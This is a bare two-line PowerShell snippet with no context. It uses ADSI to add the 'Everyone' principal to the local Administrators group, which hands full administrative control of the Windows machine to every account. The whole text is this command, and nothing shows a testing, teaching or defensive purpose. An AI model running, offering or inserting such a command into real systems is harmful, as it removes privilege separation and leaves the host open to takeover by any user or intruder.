$admins = [ADSI]('WinNT://./' + 'Administrators' + ',group')
$admins.psbase.Invoke('Add', ([ADSI]'WinNT://Everyone').Path)
